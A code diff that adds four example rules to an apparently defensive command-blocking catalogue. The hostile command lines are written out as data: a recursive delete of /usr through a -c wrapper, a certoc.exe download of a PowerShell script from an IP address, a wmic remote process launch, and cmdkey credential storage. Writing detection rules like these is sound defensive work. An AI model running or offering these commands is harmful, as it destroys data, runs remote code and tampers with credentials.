@@ -686,6 +686,30 @@ CATALOGUE: dict[str, Rule] = _rules(
         " but everything moves (dangerous; into a deleted or temporary place it is blocked)",
         "mv * ../archive/",
     ),
+    # --- safety-f6 (issue 14): blind6's miss families ---------------------------------------
+    (
+        "shell-c",
+        "a program the analyser does not model runs a blocked command line given to its -c",
+        "genie -c 'rm -rf /usr'",
+    ),
+    (
+        "download",
+        "a Windows binary fetches a file from a URL (a living-off-the-land download)",
+        "certoc.exe -GetCACAPS https://10.0.0.1/a.ps1",
+        "cmd",
+    ),
+    (
+        "remote-exec",
+        "starts a process on another machine (remote execution)",
+        'wmic /node:10.0.0.5 process call create "cmd /c C:\\Windows\\Temp\\m.exe"',
+        "cmd",
+    ),
+    (
+        "credentials",
+        "adds or removes stored Windows credentials",
+        "cmdkey /add:srv01 /user:u /pass:p",
+        "cmd",
+    ),
 )
 
 # The settings under which the user-rule examples fire.
